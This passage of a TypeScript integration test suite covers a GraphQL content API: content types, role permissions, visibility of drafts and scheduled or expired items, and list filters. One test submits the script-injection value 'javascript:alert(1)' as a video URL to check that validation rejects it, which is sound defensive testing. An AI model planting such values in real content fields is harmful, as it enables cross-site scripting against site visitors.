/**
 * The content core through the API: the five types and their details, who may write, who sees what (draft, review,
 * scheduled, archived, expired), lists and their filters, ordering and cursors, locale fallback, slugs and the page
 * tree, the workflow, revisions, deletion, sanitised Markdown, the contentChanged subscription and the statement
 * count of a list. Other files share this worker's database: every list here is filtered by a tag of this file.
 */
import type { EntityManager } from '@mikro-orm/postgresql';
import {
  ArchiveContentDocument,
  ContentAnnouncementPageDocument,
  ContentBySlugDocument,
  ContentCategoryListDocument,
  SaveContentCategoryDocument,
  ContentChangedFeedDocument,
  ContentCreateDetailedDocument,
  ContentDetailByIdDocument,
  ContentEventPageDocument,
  ContentListDocument,
  ContentNodeByIdDocument,
  ContentPageListDocument,
  ContentPageTreeDocument,
  ContentRevisionsDetailedDocument,
  ContentTestCreatePartnerDocument,
  ContentTestHomeDocument,
  ContentUpdateDetailedDocument,
  DeleteContentDocument,
  PublishContentDocument,
  RestoreContentRevisionDocument,
  ReturnContentToDraftDocument,
  SubmitContentForReviewDocument,
  type ContentChangedFeedSubscription,
  type ContentChangedFeedSubscriptionVariables,
  type ContentFilter,
  type CreateContentInput,
  type EventDetailsInput,
  type UpdateContentInput,
} from '../generated/graphql';
import { startTestHub, subscribe, waitFor, type GraphQLResponse, type Identity, type TestHub } from '../support/hub';

let hub: TestHub;

const STAFF: Identity = { role: 'STAFF', sub: 'content-staff' };
const ADMIN: Identity = { role: 'ADMIN', sub: 'content-admin' };
const APPLICANT: Identity = { role: 'APPLICANT', sub: 'content-applicant' };
let COORDINATOR: Identity;
/** Everyone who sees only live content; `undefined` is a visitor without a token. */
let PUBLIC: [string, Identity | undefined][];
const OFFICE: [string, Identity][] = [
  ['STAFF', STAFF],
  ['ADMIN', ADMIN],
];

/** Lower-case letters and digits: usable in titles, slugs, tags and category keys. */
const RUN = Math.random().toString(36).slice(2, 8).replace(/[^a-z0-9]/g, 'x');
let sequence = 0;
const uniq = () => `${RUN}${++sequence}`;
/** Every item of this file carries this tag (and most a narrower one too). */
const TAG = `content-${RUN}`;

const uuidOf = (globalId: string) => Buffer.from(globalId, 'base64url').toString().split(':')[1];
const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const at = (ms: number) => new Date(Date.now() + ms).toISOString();

let unitId: string;
let unitCode: string;
let partnerId: string;
const CATEGORY_A = `ct-erasmus-${RUN}`;
const CATEGORY_B = `ct-events-${RUN}`;

function sql<T>(query: string, params: unknown[] = []): Promise<T[]> {
  return (hub.hub.orm.em.fork() as EntityManager).execute<T[]>(query, params);
}

function errorOf(res: GraphQLResponse<unknown>): Record<string, unknown> {
  expect(res.errors).toBeDefined();
  return res.errors![0].extensions as Record<string, unknown>;
}

function ok<T>(res: GraphQLResponse<T>): T {
  if (res.errors) throw new Error(JSON.stringify(res.errors, null, 2));
  return res.data!;
}

type Created = Awaited<ReturnType<typeof create>>;

async function create(input: CreateContentInput, as: Identity = STAFF) {
  return ok(await hub.request(ContentCreateDetailedDocument, { input: { ...input, tags: [TAG, ...(input.tags ?? [])] } }, as)).createContent;
}

async function update(input: UpdateContentInput, as: Identity = STAFF) {
  return ok(await hub.request(ContentUpdateDetailedDocument, { input }, as)).updateContent;
}

async function publish(item: { id: string; version: number }, window: { publishAt?: string; unpublishAt?: string } = {}, as: Identity = STAFF) {
  return ok(await hub.request(PublishContentDocument, { id: item.id, version: item.version, ...window }, as)).publishContent;
}

async function submit(item: { id: string; version: number }) {
  return ok(await hub.request(SubmitContentForReviewDocument, { id: item.id, version: item.version }, STAFF)).submitContentForReview;
}

async function archive(item: { id: string; version: number }) {
  return ok(await hub.request(ArchiveContentDocument, { id: item.id, version: item.version }, STAFF)).archiveContent;
}

async function read(id: string, as?: Identity, locale?: 'tr' | 'en') {
  return ok(await hub.request(ContentDetailByIdDocument, { id, locale }, as)).content;
}

function eventDetails(more: Partial<EventDetailsInput> = {}): EventDetailsInput {
  const startsAt = more.startsAt ?? at(10 * DAY);
  return {
    kind: 'INFO_SESSION',
    startsAt,
    endsAt: new Date(new Date(startsAt).getTime() + 2 * HOUR).toISOString(),
    timeZone: 'Europe/Istanbul',
    organiserKind: 'OFFICE',
    ...more,
  };
}

function event(title: string, more: Partial<EventDetailsInput> = {}, extra: Partial<CreateContentInput> = {}): CreateContentInput {
  return { type: 'EVENT', title: { tr: title, en: `${title} (en)` }, event: eventDetails(more), ...extra };
}

function announcement(title: string, extra: Partial<CreateContentInput> = {}): CreateContentInput {
  return { type: 'ANNOUNCEMENT', title: { tr: title, en: `${title} (en)` }, announcement: { kind: 'NEWS' }, ...extra };
}

/** The ids of a contents() list (one page of up to 100). */
async function listIds(filter: ContentFilter, as?: Identity, extra: { orderBy?: { field: 'PUBLISHED' | 'STARTS' | 'UPDATED' | 'POSITION'; direction?: 'ASC' | 'DESC' } } = {}) {
  return ok(await hub.request(ContentListDocument, { filter, first: 100, ...extra }, as)).contents.nodes.map((n) => n.id);
}

async function eventIds(filter: ContentFilter, as?: Identity, orderBy?: { field: 'STARTS' | 'PUBLISHED' | 'UPDATED' | 'POSITION'; direction?: 'ASC' | 'DESC' }) {
  return ok(await hub.request(ContentEventPageDocument, { filter, first: 100, orderBy }, as)).events.nodes.map((n) => n.id);
}

/** A 1×1 PNG, uploaded through POST /media as the office. */
async function uploadImage(): Promise<string> {
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
  const form = new FormData();
  form.append('file', new Blob([png], { type: 'image/png' }), `cover-${RUN}.png`);
  const res = await fetch(`${hub.origin}/media`, { method: 'POST', body: form, headers: { authorization: `Bearer ${await hub.token(STAFF)}` } });
  const body = (await res.json()) as { id: string };
  expect(res.status).toBe(201);
  return body.id;
}

beforeAll(async () => {
  hub = await startTestHub();
  const home = ok(await hub.request(ContentTestHomeDocument, {})).homeInstitution;
  const unit = home.topLevelUnits[0];
  unitId = unit.id;
  unitCode = unit.code;
  COORDINATOR = { role: 'COORDINATOR', sub: 'content-coordinator', units: [uuidOf(unitId)] };
  PUBLIC = [
    ['a visitor', undefined],
    ['an applicant', APPLICANT],
    ['a coordinator', COORDINATOR],
  ];
  partnerId = ok(await hub.request(ContentTestCreatePartnerDocument, { input: { officialName: `Content Partner ${RUN}`, country: 'DE' } }, STAFF))
    .createInstitution.id;
  // Categories have no API of their own (the demo seed brings the real ones).
  for (const [key, tr, en, position] of [
    [CATEGORY_A, 'Erasmus+ (test)', 'Erasmus+ (test)', 900],
    [CATEGORY_B, 'Etkinlikler (test)', 'Events (test)', 901],
  ] as const) {
    await sql(`insert into content_category (id, key, name, position) values (gen_random_uuid(), ?, ?::jsonb, ?)`, [key, JSON.stringify({ tr, en }), position]);
  }
});
afterAll(() => hub.close());

// ---------------------------------------------------------------------------------------------------------------------

describe('creating content', () => {
  it('creates an announcement with its details as the office: a draft, version 1, with one revision', async () => {
    const title = `Konferans Duyurusu ${uniq()}`;
    const created = await create({
      type: 'ANNOUNCEMENT',
      title: { tr: title, en: 'Conference announcement' },
      summary: { tr: 'Özet', en: 'Summary' },
      body: { tr: 'Türkçe **metin**', en: 'English **text**' },
      categoryKey: CATEGORY_A,
      tags: ['Konferans', ' konferans '],
      programmes: ['ERASMUS_PLUS'],
      partnerIds: [partnerId],
      announcement: {
        kind: 'CONFERENCE',
        startsAt: '2027-03-10T07:00:00.000Z',
        endsAt: '2027-03-12T15:00:00.000Z',
        timeZone: 'Europe/Berlin',
        venue: { tr: 'Berlin', en: 'Berlin' },
        onlineUrl: 'https://conference.example.org',
        organiserName: 'Example Association',
      },
    });
    expect(created).toMatchObject({
      __typename: 'Announcement',
      type: 'ANNOUNCEMENT',
      status: 'DRAFT',
      visibility: 'DRAFT',
      version: 1,
      title,
      summary: 'Özet',
      body: 'Türkçe **metin**',
      bodyHtml: '<p>Türkçe <strong>metin</strong></p>',
      locale: 'tr',
      translations: ['tr', 'en'],
      tags: [TAG, 'konferans'],
      category: { key: CATEGORY_A, name: 'Erasmus+ (test)' },
      programmes: ['ERASMUS_PLUS'],
      partners: [{ id: partnerId }],
      announcementKind: 'CONFERENCE',
      announcementStartsAt: '2027-03-10T07:00:00.000Z',
      announcementEndsAt: '2027-03-12T15:00:00.000Z',
      announcementTimeZone: 'Europe/Berlin',
      venue: 'Berlin',
      onlineUrl: 'https://conference.example.org',
      organiserName: 'Example Association',
      publishAt: null,
      publishedAt: null,
    });
    const revisions = ok(await hub.request(ContentRevisionsDetailedDocument, { id: created.id }, STAFF)).content!.revisions;
    expect(revisions).toEqual([expect.objectContaining({ number: 1, version: 1, status: 'DRAFT', author: STAFF.sub, note: 'created' })]);
  });

  it('creates an event held in Europe/Istanbul by the office, with capacity, a registration window and questions', async () => {
    const startsAt = '2027-04-15T07:00:00.000Z'; // 10:00 in Istanbul
    const created = await create(
      event(`Oryantasyon ${uniq()}`, {
        kind: 'ORIENTATION',
        startsAt,
        endsAt: '2027-04-15T12:00:00.000Z',
        venue: { tr: 'Kongre Merkezi', en: 'Congress Centre' },
        capacity: 120,
        registrationOpensAt: '2027-03-01T06:00:00.000Z',
        registrationQuestions: [
          { key: 'diet', label: { tr: 'Beslenme', en: 'Diet' }, kind: 'CHOICE', required: true, options: ['none', 'vegetarian'] },
          { key: 'note', label: { tr: 'Not' }, kind: 'TEXT' },
        ],
      }),
    );
    expect(created).toMatchObject({
      __typename: 'Event',
      type: 'EVENT',
      status: 'DRAFT',
      eventKind: 'ORIENTATION',
      startsAt,
      endsAt: '2027-04-15T12:00:00.000Z',
      timeZone: 'Europe/Istanbul',
      venue: 'Kongre Merkezi',
      organiserKind: 'OFFICE',
      organiserUnit: null,
      organiserInstitution: null,
      organiserName: null,
      capacity: 120,
      registrationOpensAt: '2027-03-01T06:00:00.000Z',
      // Registration closes when the event starts unless set earlier.
      registrationClosesAt: startsAt,
      registrationQuestions: [
        { key: 'diet', label: 'Beslenme', kind: 'CHOICE', required: true, options: ['none', 'vegetarian'] },
        { key: 'note', label: 'Not', kind: 'TEXT', required: false, options: [] },
      ],
    });
    const inEnglish = await read(created.id, STAFF, 'en');
    expect(inEnglish).toMatchObject({ venue: 'Congress Centre', registrationQuestions: [{ label: 'Diet' }, { label: 'Not' }] });
  });

  it('takes the organiser that organiserKind names: a unit for UNIT, an institution for PARTNER, a name for EXTERNAL; refuses a missing one (INVALID_ORGANISER)', async () => {
    const byUnit = await create(event(`Birim Etkinliği ${uniq()}`, { organiserKind: 'UNIT', organiserUnitId: unitId }));
    expect(byUnit).toMatchObject({ organiserKind: 'UNIT', organiserUnit: { id: unitId, code: unitCode }, organiserInstitution: null });
    const byPartner = await create(event(`Ortak Etkinliği ${uniq()}`, { organiserKind: 'PARTNER', organiserInstitutionId: partnerId }));
    expect(byPartner).toMatchObject({ organiserKind: 'PARTNER', organiserInstitution: { id: partnerId }, organiserUnit: null });
    const external = await create(event(`Dış Etkinlik ${uniq()}`, { organiserKind: 'EXTERNAL', organiserName: 'Goethe-Institut' }));
    expect(external).toMatchObject({ organiserKind: 'EXTERNAL', organiserName: 'Goethe-Institut' });
    // Only the organiser of the named kind is kept.
    const office = await create(event(`Ofis Etkinliği ${uniq()}`, { organiserKind: 'OFFICE', organiserName: 'ignored', organiserUnitId: unitId }));
    expect(office).toMatchObject({ organiserKind: 'OFFICE', organiserName: null, organiserUnit: null });

    for (const [details, field] of [
      [{ organiserKind: 'UNIT' }, 'event.organiserUnitId'],
      [{ organiserKind: 'UNIT', organiserUnitId: partnerId }, 'event.organiserUnitId'],
      [{ organiserKind: 'PARTNER' }, 'event.organiserInstitutionId'],
      [{ organiserKind: 'EXTERNAL' }, 'event.organiserName'],
    ] as [Partial<EventDetailsInput>, string][]) {
      const res = await hub.request(ContentCreateDetailedDocument, { input: event(`Organizatörsüz ${uniq()}`, details) }, STAFF);
      expect(errorOf(res)).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'INVALID_ORGANISER', field });
    }
  });

  it('creates a page, a document and a promotional material with their details', async () => {
    const page = await create({ type: 'PAGE', title: { tr: `Hakkımızda ${uniq()}` }, page: { position: 3 } });
    expect(page).toMatchObject({ __typename: 'Page', type: 'PAGE', status: 'DRAFT', position: 3, parent: null });
    // A page needs no details at all.
    const bare = await create({ type: 'PAGE', title: { tr: `Sade Sayfa ${uniq()}` } });
    expect(bare).toMatchObject({ type: 'PAGE', position: 0 });

    const document = await create({ type: 'DOCUMENT', title: { tr: `Başvuru Formu ${uniq()}` }, document: { kind: 'FORM' } });
    expect(document).toMatchObject({ __typename: 'Document', type: 'DOCUMENT', documentKind: 'FORM' });

    const material = await create({
      type: 'PROMOTIONAL_MATERIAL',
      title: { tr: `Tanıtım Videosu ${uniq()}`, en: 'Promotional video' },
      material: { format: 'VIDEO', audiences: ['PROSPECTIVE_STUDENTS', 'INCOMING_STUDENTS'], language: 'en', videoUrl: 'https://video.example.org/v/1' },
    });
    expect(material).toMatchObject({
      __typename: 'PromotionalMaterial',
      type: 'PROMOTIONAL_MATERIAL',
      format: 'VIDEO',
      audiences: ['PROSPECTIVE_STUDENTS', 'INCOMING_STUDENTS'],
      language: 'en',
      videoUrl: 'https://video.example.org/v/1',
    });
    const badUrl = await hub.request(
      ContentCreateDetailedDocument,
      { input: { type: 'PROMOTIONAL_MATERIAL', title: { tr: 'x' }, material: { format: 'VIDEO', videoUrl: 'javascript:alert(1)' } } },
      STAFF,
    );
    expect(errorOf(badUrl)).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'INVALID_URL', field: 'material.videoUrl' });
  });

  it("refuses another type's details (DETAILS_MISMATCH) and missing details (DETAILS_REQUIRED), writing nothing", async () => {
    const title = `Yanlış Ayrıntı ${uniq()}`;
    const cases: [CreateContentInput, string, string][] = [
      [{ type: 'ANNOUNCEMENT', title: { tr: title }, event: eventDetails() }, 'DETAILS_MISMATCH', 'event'],
      [{ type: 'EVENT', title: { tr: title }, event: eventDetails(), document: { kind: 'FORM' } }, 'DETAILS_MISMATCH', 'document'],
      [{ type: 'PAGE', title: { tr: title }, announcement: { kind: 'NEWS' } }, 'DETAILS_MISMATCH', 'announcement'],
      [{ type: 'DOCUMENT', title: { tr: title }, material: { format: 'BROCHURE' } }, 'DETAILS_MISMATCH', 'material'],
      [{ type: 'ANNOUNCEMENT', title: { tr: title } }, 'DETAILS_REQUIRED', 'announcement'],
      [{ type: 'EVENT', title: { tr: title } }, 'DETAILS_REQUIRED', 'event'],
      [{ type: 'DOCUMENT', title: { tr: title } }, 'DETAILS_REQUIRED', 'document'],
      [{ type: 'PROMOTIONAL_MATERIAL', title: { tr: title } }, 'DETAILS_REQUIRED', 'material'],
    ];
    for (const [input, reason, field] of cases) {
      const res = await hub.request(ContentCreateDetailedDocument, { input: { ...input, tags: [TAG] } }, STAFF);
      expect({ type: input.type, ...errorOf(res) }).toMatchObject({ type: input.type, code: 'BAD_USER_INPUT', reason, field });
    }
    // An update may not bring another type's details either.
    const item = await create(announcement(`Doğru Ayrıntı ${uniq()}`));
    const res = await hub.request(ContentUpdateDetailedDocument, { input: { id: item.id, version: item.version, event: eventDetails() } }, STAFF);
    expect(errorOf(res)).toMatchObject({ reason: 'DETAILS_MISMATCH', field: 'event' });
    expect(await listIds({ search: title }, STAFF)).toEqual([]);
  });

  it('refuses a time zone that is not an IANA zone (INVALID_TIME_ZONE) and an end before the start (INVALID_WINDOW)', async () => {
    for (const timeZone of ['Mars/Olympus', 'GMT+3', 'EST', 'istanbul']) {
      const res = await hub.request(ContentCreateDetailedDocument, { input: event(`Saat Dilimi ${uniq()}`, { timeZone }) }, STAFF);
      expect({ timeZone, ...errorOf(res) }).toMatchObject({ timeZone, code: 'BAD_USER_INPUT', reason: 'INVALID_TIME_ZONE', field: 'event.timeZone' });
    }
    const startsAt = at(5 * DAY);
    const backwards = await hub.request(ContentCreateDetailedDocument, { input: event(`Ters ${uniq()}`, { startsAt, endsAt: at(5 * DAY - HOUR) }) }, STAFF);
    expect(errorOf(backwards)).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'INVALID_WINDOW', field: 'event.endsAt' });
    const zeroLength = await hub.request(ContentCreateDetailedDocument, { input: event(`Sıfır ${uniq()}`, { startsAt, endsAt: startsAt }) }, STAFF);
    expect(errorOf(zeroLength)).toMatchObject({ reason: 'INVALID_WINDOW', field: 'event.endsAt' });
    const lateClose = await hub.request(
      ContentCreateDetailedDocument,
      { input: event(`Geç Kapanış ${uniq()}`, { startsAt, registrationClosesAt: at(6 * DAY) }) },
      STAFF,
    );
    expect(errorOf(lateClose)).toMatchObject({ reason: 'INVALID_WINDOW', field: 'event.registrationClosesAt' });
    const announcementBackwards = await hub.request(
      ContentCreateDetailedDocument,
      { input: announcement(`Ters Duyuru ${uniq()}`, { announcement: { kind: 'SEMINAR', startsAt, endsAt: at(4 * DAY) } }) },
      STAFF,
    );
    expect(errorOf(announcementBackwards)).toMatchObject({ reason: 'INVALID_WINDOW', field: 'announcement.endsAt' });
    const badAnnouncementZone = await hub.request(
      ContentCreateDetailedDocument,
      { input: announcement(`Duyuru Saati ${uniq()}`, { announcement: { kind: 'SEMINAR', timeZone: 'Nowhere/Land' } }) },
      STAFF,
    );
    expect(errorOf(badAnnouncementZone)).toMatchObject({ reason: 'INVALID_TIME_ZONE', field: 'announcement.timeZone' });
  });

  it('refuses every write to visitors (UNAUTHENTICATED) and to applicants and coordinators (FORBIDDEN); ADMIN writes like STAFF', async () => {
    const item = await create(announcement(`Yetki ${uniq()}`));
    for (const [who, as, code] of [
      ['a visitor', undefined, 'UNAUTHENTICATED'],
      ['an applicant', APPLICANT, 'FORBIDDEN'],
      ['a coordinator', COORDINATOR, 'FORBIDDEN'],
    ] as [string, Identity | undefined, string][]) {
      const attempts: GraphQLResponse<unknown>[] = [
        await hub.request(ContentCreateDetailedDocument, { input: announcement(`İzinsiz ${uniq()}`) }, as),
        await hub.request(ContentUpdateDetailedDocument, { input: { id: item.id, version: item.version, title: { tr: 'Değişti' } } }, as),
        await hub.request(SubmitContentForReviewDocument, { id: item.id, version: item.version }, as),
        await hub.request(PublishContentDocument, { id: item.id, version: item.version }, as),
        await hub.request(ArchiveContentDocument, { id: item.id, version: item.version }, as),
        await hub.request(ReturnContentToDraftDocument, { id: item.id, version: item.version }, as),
        await hub.request(RestoreContentRevisionDocument, { id: item.id, version: item.version, revision: 1 }, as),
        await hub.request(DeleteContentDocument, { id: item.id, version: item.version }, as),
      ];
      for (const res of attempts) expect({ who, code: errorOf(res).code }).toEqual({ who, code });
    }
    const unchanged = await read(item.id, STAFF);
    expect(unchanged).toMatchObject({ version: 1, status: 'DRAFT', title: item.title });

    const byAdmin = await create(announcement(`Yönetici ${uniq()}`), ADMIN);
    const published = await publish(byAdmin, {}, ADMIN);
    expect(published).toMatchObject({ status: 'PUBLISHED', visibility: 'LIVE' });
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('visibility', () => {
  const VTAG = `vis-${RUN}`;
  const items: Record<'live' | 'draft' | 'review' | 'scheduled' | 'archived' | 'expired', Created> = {} as never;
  const hidden = ['draft', 'review', 'scheduled', 'archived', 'expired'] as const;
  const expected = { live: 'LIVE', draft: 'DRAFT', review: 'IN_REVIEW', scheduled: 'SCHEDULED', archived: 'ARCHIVED', expired: 'ARCHIVED' };

  beforeAll(async () => {
    const make = (name: string, day: number) => create(event(`Görünürlük ${name} ${uniq()}`, { startsAt: at(day * DAY) }, { tags: [VTAG] }));
    items.live = await publish(await make('canlı', 3));
    items.draft = await make('taslak', 4);
    items.review = await submit(await make('inceleme', 5));
    items.scheduled = await publish(await make('zamanlanmış', 6), { publishAt: at(DAY) });
    items.archived = await archive(await publish(await make('arşiv', 7)));
    const expiring = await publish(await make('süresi dolan', 8), { unpublishAt: at(2500) });
    // Live until unpublishAt ...
    expect((await read(expiring.id))?.id).toBe(expiring.id);
    // ... and then archived by its job.
    await waitFor(async () => (await read(expiring.id, STAFF))!.status === 'ARCHIVED', 10_000, 'the expired item to be archived');
    items.expired = (await read(expiring.id, STAFF))!;
  });

  it('hides a draft, an item in review, a scheduled, an archived and an expired item from visitors, applicants and coordinators in contents and events lists', async () => {
    for (const [who, as] of PUBLIC) {
      const contents = ok(await hub.request(ContentListDocument, { filter: { tags: [VTAG] }, first: 50 }, as)).contents;
      expect({ who, ids: contents.nodes.map((n) => n.id), total: contents.totalCount }).toEqual({ who, ids: [items.live.id], total: 1 });
      const events = ok(await hub.request(ContentEventPageDocument, { filter: { tags: [VTAG] }, first: 50 }, as)).events;
      expect({ who, ids: events.nodes.map((n) => n.id), total: events.totalCount }).toEqual({ who, ids: [items.live.id], total: 1 });
      expect(events.nodes[0].visibility).toBe('LIVE');
    }
  });

  it('answers null for them to content(id), contentBySlug and node(id) for visitors, applicants and coordinators', async () => {
    for (const [who, as] of PUBLIC) {
      for (const name of hidden) {
        const item = items[name];
        const byId = ok(await hub.request(ContentDetailByIdDocument, { id: item.id }, as)).content;
        const bySlug = ok(await hub.request(ContentBySlugDocument, { type: 'EVENT', slug: item.slug! }, as)).contentBySlug;
        const node = ok(await hub.request(ContentNodeByIdDocument, { id: item.id }, as)).node;
        expect({ who, name, byId, bySlug, node }).toEqual({ who, name, byId: null, bySlug: null, node: null });
      }
      const live = items.live;
      expect(ok(await hub.request(ContentDetailByIdDocument, { id: live.id }, as)).content).toMatchObject({ id: live.id, visibility: 'LIVE' });
      expect(ok(await hub.request(ContentBySlugDocument, { type: 'EVENT', slug: live.slug! }, as)).contentBySlug).toMatchObject({ id: live.id });
      expect(ok(await hub.request(ContentNodeByIdDocument, { id: live.id }, as)).node).toMatchObject({ __typename: 'Event', id: live.id, status: 'PUBLISHED' });
    }
  });

  it('shows STAFF and ADMIN every one of them, with visibility DRAFT, IN_REVIEW, SCHEDULED, ARCHIVED or LIVE', async () => {
    for (const [who, as] of OFFICE) {
      const listed = ok(await hub.request(ContentListDocument, { filter: { tags: [VTAG] }, first: 50 }, as)).contents;
      expect(listed.totalCount).toBe(6);
      const visibilities = Object.fromEntries(listed.nodes.map((n) => [n.id, n.visibility]));
      const events = ok(await hub.request(ContentEventPageDocument, { filter: { tags: [VTAG] }, first: 50 }, as)).events;
      expect(events.totalCount).toBe(6);
      for (const [name, item] of Object.entries(items) as [keyof typeof items, Created][]) {
        const want = expected[name];
        expect({ who, name, listed: visibilities[item.id] }).toEqual({ who, name, listed: want });
        expect({ who, name, byId: (await read(item.id, as))?.visibility }).toEqual({ who, name, byId: want });
        const bySlug = ok(await hub.request(ContentBySlugDocument, { type: 'EVENT', slug: item.slug! }, as)).contentBySlug;
        expect({ who, name, bySlug: bySlug?.id }).toEqual({ who, name, bySlug: item.id });
        const node = ok(await hub.request(ContentNodeByIdDocument, { id: item.id }, as)).node;
        expect({ who, name, node: node && 'visibility' in node ? node.visibility : null }).toEqual({ who, name, node: want });
      }
    }
    expect(items.scheduled).toMatchObject({ status: 'PUBLISHED', publishedAt: null });
    expect(items.expired).toMatchObject({ status: 'ARCHIVED', publishedAt: expect.any(String) });
  });

  it('shows an item whose unpublishAt has passed as EXPIRED to the office while its archiving job is due, and to nobody else', async () => {
    const item = await create(event(`Süresi Geçen ${uniq()}`, {}, { tags: [VTAG] }));
    await hub.hub.jobs.stop();
    try {
      const published = await publish(item, { unpublishAt: at(2500) });
      expect(published.visibility).toBe('LIVE');
      await waitFor(async () => (await read(item.id)) === null, 10_000, 'the window to end');
      expect(await read(item.id, STAFF)).toMatchObject({ status: 'PUBLISHED', visibility: 'EXPIRED' });
      for (const [who, as] of PUBLIC) {
        expect({ who, item: await read(item.id, as), listed: await listIds({ tags: [VTAG] }, as) }).toEqual({ who, item: null, listed: [items.live.id] });
      }
    } finally {
      await hub.hub.jobs.start();
    }
    await waitFor(async () => (await read(item.id, STAFF))!.status === 'ARCHIVED', 10_000, 'the archiving job');
    expect(await read(item.id, STAFF)).toMatchObject({ visibility: 'ARCHIVED' });
  });

  it('refuses the statuses filter to visitors, applicants and coordinators (FORBIDDEN) and filters by status for the office', async () => {
    for (const [who, as] of PUBLIC) {
      const res = await hub.request(ContentListDocument, { filter: { tags: [VTAG], statuses: ['PUBLISHED'] }, first: 10 }, as);
      expect({ who, code: errorOf(res).code }).toEqual({ who, code: 'FORBIDDEN' });
    }
    const drafts = await listIds({ tags: [VTAG], statuses: ['DRAFT', 'IN_REVIEW'] }, STAFF);
    expect(drafts.sort()).toEqual([items.draft.id, items.review.id].sort());
    const published = await listIds({ tags: [VTAG], statuses: ['PUBLISHED'] }, ADMIN);
    expect(published.sort()).toEqual([items.live.id, items.scheduled.id].sort());
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('lists', () => {
  const LTAG = `list-${RUN}`;
  const EXTRA = `atolye-${RUN}`;
  const L = uniq();
  let e1: Created, e2: Created, e3: Created, a1: Created, a2: Created, d1: Created, m1: Created, draft: Created;

  beforeAll(async () => {
    e1 = await publish(
      await create(
        event(`Bilgi Günü ${L}`, { startsAt: at(2 * DAY) }, { title: { tr: `Bilgi Günü ${L}`, en: `Info Day ${L}` }, tags: [LTAG], categoryKey: CATEGORY_A, programmes: ['ERASMUS_PLUS'], partnerIds: [partnerId] }),
      ),
    );
    e2 = await publish(await create(event(`Atölye ${L}`, { kind: 'WORKSHOP', startsAt: at(5 * DAY) }, { tags: [LTAG, EXTRA], categoryKey: CATEGORY_B })));
    e3 = await publish(await create(event(`Geçmiş Seminer ${L}`, { kind: 'SEMINAR', startsAt: at(-3 * DAY) }, { tags: [LTAG] })));
    a1 = await publish(await create(announcement(`Haber ${L}`, { tags: [LTAG], programmes: ['MEVLANA'], partnerIds: [partnerId] })), { publishAt: at(-2 * DAY) });
    a2 = await publish(await create(announcement(`Çağrı ${L}`, { tags: [LTAG], categoryKey: CATEGORY_A, announcement: { kind: 'CALL' } })), { publishAt: at(-DAY) });
    d1 = await publish(await create({ type: 'DOCUMENT', title: { tr: `Form ${L}` }, tags: [LTAG], document: { kind: 'FORM' } }));
    m1 = await publish(
      await create({ type: 'PROMOTIONAL_MATERIAL', title: { tr: `Broşür ${L}` }, tags: [LTAG], material: { format: 'BROCHURE', audiences: ['OUTGOING_STUDENTS'] } }),
    );
    draft = await create(event(`Taslak Etkinlik ${L}`, { startsAt: at(4 * DAY) }, { tags: [LTAG] }));
  });

  const sorted = (ids: string[]) => [...ids].sort();

  it('filters by types, kinds, category, tags, programme, partner and audience', async () => {
    const all = [e1, e2, e3, a1, a2, d1, m1].map((i) => i.id);
    expect(sorted(await listIds({ tags: [LTAG] }))).toEqual(sorted(all));
    expect(sorted(await listIds({ tags: [LTAG] }, STAFF))).toEqual(sorted([...all, draft.id]));
    expect(sorted(await listIds({ tags: [LTAG], types: ['EVENT'] }))).toEqual(sorted([e1.id, e2.id, e3.id]));
    expect(sorted(await listIds({ tags: [LTAG], types: ['ANNOUNCEMENT', 'DOCUMENT'] }))).toEqual(sorted([a1.id, a2.id, d1.id]));
    expect(await listIds({ tags: [LTAG], kinds: ['WORKSHOP'] })).toEqual([e2.id]);
    expect(sorted(await listIds({ tags: [LTAG], kinds: ['CALL', 'FORM'] }))).toEqual(sorted([a2.id, d1.id]));
    expect(sorted(await listIds({ tags: [LTAG], category: CATEGORY_A }))).toEqual(sorted([e1.id, a2.id]));
    expect(await listIds({ tags: [LTAG], category: CATEGORY_B })).toEqual([e2.id]);
    // Tags: any of them; written in any case (they are stored lower-cased).
    expect(await listIds({ tags: [EXTRA] })).toEqual([e2.id]);
    expect(await listIds({ tags: [EXTRA.toUpperCase()] })).toEqual([e2.id]);
    expect(sorted(await listIds({ tags: [`nothing-${RUN}`, LTAG.toUpperCase()] }))).toEqual(sorted(all));
    expect(await listIds({ tags: [LTAG], programme: 'ERASMUS_PLUS' })).toEqual([e1.id]);
    expect(await listIds({ tags: [LTAG], programme: 'MEVLANA' })).toEqual([a1.id]);
    expect(sorted(await listIds({ tags: [LTAG], partnerId }))).toEqual(sorted([e1.id, a1.id]));
    expect(await listIds({ tags: [LTAG], audience: 'OUTGOING_STUDENTS' })).toEqual([m1.id]);
    const notAPartner = await hub.request(ContentListDocument, { filter: { partnerId: e1.id }, first: 1 });
    expect(errorOf(notAPartner)).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'INVALID_ID', field: 'filter.partnerId' });
  });

  it('filters events by when (UPCOMING, PAST) and by a from–to range', async () => {
    expect(await eventIds({ tags: [LTAG], when: 'UPCOMING' })).toEqual([e1.id, e2.id]);
    expect(await eventIds({ tags: [LTAG], when: 'PAST' })).toEqual([e3.id]);
    expect(await eventIds({ tags: [LTAG], from: at(DAY), to: at(3 * DAY) })).toEqual([e1.id]);
    expect(await eventIds({ tags: [LTAG], from: at(-4 * DAY), to: at(DAY) })).toEqual([e3.id]);
    expect(await eventIds({ tags: [LTAG], from: at(3 * DAY) })).toEqual([e2.id]);
    expect(await eventIds({ tags: [LTAG], to: at(3 * DAY) })).toEqual([e3.id, e1.id]);
    // The office also sees the draft event in the range.
    expect(await eventIds({ tags: [LTAG], from: at(3 * DAY), to: at(6 * DAY) }, STAFF)).toEqual([draft.id, e2.id]);
  });

  it('searches words of the title in either language, ignoring case, and treats % and _ literally', async () => {
    expect(await listIds({ tags: [LTAG], search: `bilgi günü ${L}` })).toEqual([e1.id]);
    expect(await listIds({ tags: [LTAG], search: `INFO DAY ${L}` })).toEqual([e1.id]);
    expect(sorted(await listIds({ tags: [LTAG], search: L }))).toEqual(sorted([e1.id, e2.id, e3.id, a1.id, a2.id, d1.id, m1.id]));
    expect(await listIds({ tags: [LTAG], search: '%' })).toEqual([]);
    expect(await listIds({ tags: [LTAG], search: '_' })).toEqual([]);
  });

  it('orders events soonest first and announcements newest first (by publication date)', async () => {
